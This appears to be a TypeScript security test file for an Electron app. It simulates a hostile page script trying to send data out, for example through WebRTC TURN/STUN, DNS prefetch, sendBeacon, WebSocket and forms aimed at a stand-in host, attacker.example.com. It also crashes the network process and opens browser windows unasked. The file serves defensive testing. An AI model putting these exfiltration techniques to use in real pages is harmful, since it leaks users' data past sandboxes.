import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import { setTimeout as delay } from 'node:timers/promises';
import type { Page } from 'playwright-core';
import { atEndOfTest } from '../../e2e/at-end';
import type { RunningApp } from '../../e2e/launch';
import { type Attack, heldUnless, startListener } from './attack';
import { namesIn, netLogOf } from './net-log';

/** A place of the attacker: a port of one address of this computer, for TCP and UDP. */
interface Place {
  readonly host: string;
  readonly port: number;
}

/** Listens on loopback and on every other address of version 4 of this computer. `seen` is all that arrived. */
async function startPlaces(): Promise<{ readonly places: readonly Place[]; readonly seen: string[] }> {
  const seen: string[] = [];
  const others = Object.values(networkInterfaces())
    .flatMap((addresses) => addresses ?? [])
    .filter(({ family, internal }) => family === 'IPv4' && !internal)
    .map(({ address }) => address);
  const places = await Promise.all(
    ['127.0.0.1', ...others].map(async (host): Promise<Place> => {
      const server = createServer((socket) => {
        seen.push(`a connection to ${host}`);
        socket.on('data', (data) => seen.push(`${data.length} bytes by TCP to ${host}`));
        socket.on('error', () => undefined);
      });
      server.listen(0, host);
      await once(server, 'listening');
      const address = server.address();
      const port = typeof address === 'object' && address !== null ? address.port : 0;
      const datagrams = createSocket('udp4');
      datagrams.on('message', (data) => seen.push(`${data.length} bytes by UDP to ${host}`));
      datagrams.bind(port, host);
      await once(datagrams, 'listening');
      atEndOfTest(() => {
        server.close();
        datagrams.close();
        return Promise.resolve();
      });
      return { host, port };
    }),
  );
  return { places, seen };
}

/** Has the page, and an empty frame with objects of its own, try every server of WebRTC and every kind of candidate. */
const talkByWebRtc = (page: Page, places: readonly Place[], name: string): Promise<void> =>
  page.evaluate(
    async ([all, host]) => {
      const urls = [
        ...all.flatMap((place) => [
          `turn:${place.host}:${place.port}?transport=tcp`,
          `turn:${place.host}:${place.port}?transport=udp`,
          `turns:${place.host}:${place.port}?transport=tcp`,
        ]),
        `turn:turn.${host}:3478?transport=tcp`,
        `turn:turn-udp.${host}:3478`,
      ];
      const servers: RTCIceServer[] = [
        ...urls.map((url) => ({ urls: url, username: 'stolen', credential: 'stolen' })),
        { urls: `stun:stun.${host}:3478` },
      ];
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const worlds = [window, frame.contentWindow].filter((world) => world !== null);
      for (const world of worlds) {
        const Connection: unknown = Reflect.get(world, 'RTCPeerConnection');
        if (typeof Connection !== 'function') continue;
        const make = (config?: RTCConfiguration): RTCPeerConnection =>
          Reflect.construct(Connection, [config]) as RTCPeerConnection;
        const [one, other] = [make({ iceServers: servers }), make()];
        one.createDataChannel('stolen');
        await one.setLocalDescription(await one.createOffer());
        await other.setRemoteDescription(one.localDescription!);
        await other.setLocalDescription(await other.createAnswer());
        await one.setRemoteDescription(other.localDescription!);
        for (const target of [...all.map((place) => place.host), `candidate.${host}`, 'stolen.local'])
          for (const kind of ['udp', 'tcp'])
            await one
              .addIceCandidate({
                candidate: `candidate:1 1 ${kind} 2122260223 ${target} ${all[0]?.port ?? 9} typ host${kind === 'tcp' ? ' tcptype passive' : ''}`,
                sdpMid: '0',
              })
              .catch(() => undefined);
      }
      await new Promise((resolve) => setTimeout(resolve, 2_500));
      frame.remove();
    },
    [places, name] as const,
  );

/** Has the page, and an empty frame of it, name hosts in every way by which Chromium prepares for a visit. */
const nameHosts = (page: Page, places: readonly Place[], name: string): Promise<void> =>
  page.evaluate(
    async ([all, host]) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      for (const [prefix, where] of [
        ['page', document],
        ['frame', frame.contentDocument],
      ] as const) {
        if (where === null) continue;
        const meta = where.createElement('meta');
        meta.httpEquiv = 'x-dns-prefetch-control';
        meta.content = 'on';
        where.head.append(meta);
        for (const rel of [
          'dns-prefetch',
          'preconnect',
          'prefetch',
          'prerender',
          'preload',
          'icon',
          'manifest',
        ]) {
          const origins = [
            `https://${prefix}-${rel}.${host}`,
            ...all.map((to) => `http://${to.host}:${to.port}`),
          ];
          for (const origin of origins) {
            const link = where.createElement('link');
            link.rel = rel;
            link.as = 'image';
            link.href = `${origin}/stolen`;
            where.head.append(link);
          }
        }
        const anchor = where.createElement('a');
        anchor.href = `https://${prefix}-anchor.${host}/`;
        anchor.textContent = 'x';
        anchor.ping = all.map((to) => `http://${to.host}:${to.port}/ping`).join(' ');
        where.body.append(anchor);
        const rules = where.createElement('script');
        rules.type = 'speculationrules';
        const urls = [`https://${prefix}-rules.${host}/`];
        rules.textContent = JSON.stringify({
          prefetch: [{ source: 'list', urls }],
          prerender: [{ source: 'list', urls }],
        });
        where.body.append(rules);
        anchor.click();
      }
      for (const to of all) {
        const at = `${to.host}:${to.port}`;
        const tries: (() => unknown)[] = [
          () => fetch(`http://${at}/fetch`, { mode: 'no-cors' }),
          () => navigator.sendBeacon(`http://${at}/beacon`, 'stolen'),
          () => new WebSocket(`ws://${at}/socket`),
          () => new EventSource(`http://${at}/events`),
          () => new WebTransport(`https://${at}/transport`),
          () => new Worker(URL.createObjectURL(new Blob([`fetch('http://${at}/worker')`]))),
          () => navigator.serviceWorker.register(`http://${at}/sw.js`),
          () => Object.assign(new Image(), { src: `http://${at}/picture` }),
          () => new Audio(`http://${at}/sound`).play(),
          () => {
            const form = Object.assign(document.createElement('form'), {
              action: `http://${at}/form`,
              method: 'post',
            });
            document.body.append(form);
            form.submit();
          },
          () => {
            const inner = Object.assign(document.createElement('iframe'), { src: `http://${at}/frame` });
            document.body.append(inner);
          },
          () => {
            const style = document.createElement('style');
            style.textContent = `@import url(http://${at}/style); body { background: url(http://${at}/background) }`;
            document.head.append(style);
          },
        ];
        for (const attempt of tries) {
          try {
            await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 100))]);
          } catch {
            // The next one.
          }
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 1_500));
    },
    [places, name] as const,
  );

/** Ends the network process of Chromium, as a crash would; another one takes its place. */
async function crashNetworkProcess({ app }: RunningApp): Promise<void> {
  await app.evaluate(({ app: electron }) => {
    const found = electron
      .getAppMetrics()
      .find(({ serviceName }) => serviceName === 'network.mojom.NetworkService');
    if (found === undefined) throw new Error('There is no network process');
    process.kill(found.pid, 'SIGKILL');
  });
  await delay(1_000);
}

/** Has main note what it would hand to the browser and what it asks the person, who answers `answer`. */
const watchBrowser = ({ app }: RunningApp, answer: 'yes' | 'no'): Promise<void> =>
  app.evaluate(
    ({ shell, dialog }, response) => {
      const [opened, asked]: string[][] = [[], []];
      Object.assign(globalThis, { opened, asked });
      shell.openExternal = (address) => {
        opened?.push(address);
        return Promise.resolve();
      };
      Reflect.set(dialog, 'showMessageBox', (...given: { message?: string }[]) => {
        asked?.push(given.at(-1)?.message ?? '');
        return Promise.resolve({ response, checkboxChecked: false });
      });
    },
    answer === 'yes' ? 0 : 1,
  );

const noted = ({ app }: RunningApp, what: 'opened' | 'asked'): Promise<string[]> =>
  app.evaluate((_electron, name) => Reflect.get(globalThis, name) as string[], what);

/** Presses a key, as a person does. */
const press = (page: Page): Promise<void> => page.keyboard.press('Shift');

const DOMAIN = 'attacker.example.com';

export const ATTACKS: readonly Attack[] = [
  {
    name: 'page-talks-by-webrtc',
    actor: 'page script',
    attempt:
      'A script in the page, or in an empty frame, reaches TURN and STUN servers and peers, also after the network process crashed.',
    async run(target) {
      const { places, seen } = await startPlaces();
      const running = await target.launch();
      await talkByWebRtc(running.page, places, DOMAIN);
      if (seen.length === 0) {
        await crashNetworkProcess(running);
        await talkByWebRtc(running.page, places, DOMAIN);
      }
      return heldUnless([...new Set(seen)], `nothing arrived at ${places.length} addresses`);
    },
  },
  {
    name: 'page-has-names-looked-up',
    actor: 'page script',
    attempt:
      'A script in the page has names looked up that carry what it knows: links, frames, requests, WebRTC.',
    async run(target) {
      const { places, seen } = await startPlaces();
      const running = await target.launch();
      const log = await netLogOf(running, async () => {
        await nameHosts(running.page, places, DOMAIN);
        await talkByWebRtc(running.page, places, DOMAIN);
      });
      return heldUnless(
        [...namesIn(log, DOMAIN), ...new Set(seen)],
        'no name was looked up and nothing arrived',
      );
    },
  },
  {
    name: 'page-opens-browser-by-itself',
    actor: 'page script',
    attempt: 'A script in the page opens fifty addresses in the browser while the person does nothing.',
    async run(target) {
      const running = await target.launch();
      await watchBrowser(running, 'yes');
      await running.page.evaluate((domain) => {
        for (let count = 0; count < 50; count += 1) window.open(`https://a${count}.${domain}/?stolen`);
      }, DOMAIN);
      await delay(500);
      return heldUnless(
        [...(await noted(running, 'opened')), ...(await noted(running, 'asked'))],
        'nothing was opened or asked',
      );
    },
  },
  {
    name: 'page-opens-browser-with-every-key',
    actor: 'page script',
    attempt:
      'A script in the page opens many addresses of an accepted host with each key that the person presses.',
    async run(target) {
      const running = await target.launch();
      await watchBrowser(running, 'yes');
      await running.page.evaluate((domain) => {
        document.addEventListener('keydown', () => {
          for (let count = 0; count < 10; count += 1) window.open(`https://known.${domain}/${count}`);
        });
      }, DOMAIN);
      for (let keys = 0; keys < 20; keys += 1) await press(running.page);
      await delay(500);
      const opened = await noted(running, 'opened');
      return heldUnless(
        opened.length > 3 ? [`${opened.length} were opened with twenty keys`] : [],
        `${opened.length} of two hundred were opened`,
      );
    },
  },
  {
    name: 'page-opens-unknown-host',
    actor: 'page script',
    attempt:
      'A script in the page opens an address of its own host, with what it knows, as the person presses a key.',
    async run(target) {
      const running = await target.launch();
      await watchBrowser(running, 'no');
      await running.page.evaluate((domain) => {
        document.addEventListener('keydown', () => window.open(`https://${domain}/?stolen`));
      }, DOMAIN);
      await press(running.page);
      await delay(500);
      const opened = await noted(running, 'opened');
      const [asked = ''] = await noted(running, 'asked');
      return heldUnless(opened, `main asked “${asked}”, and nothing was opened`);
    },
  },
  {
    name: 'page-hides-behind-about-blank',
    actor: 'page script',
    attempt:
      'A script in the page has the window show an about: page, which no rule for navigation is asked about.',
    async run(target) {
      const host = await startListener();
      const { app, page } = await target.launch();
      await page.evaluate(() => location.assign('about:blank')).catch(() => undefined);
      let address = 'about:blank';
      for (let tries = 0; tries < 40 && !address.startsWith('proofdesk://desk/'); tries += 1) {
        await delay(100);
        address = await app.evaluate(
          ({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.getURL() ?? '',
        );
      }
      return heldUnless(
        [
          ...host.heard.map(({ path }) => path),
          ...(address.startsWith('proofdesk://desk/') ? [] : [address]),
        ],
        'the window went back to the page of the program',
      );
    },
  },
];
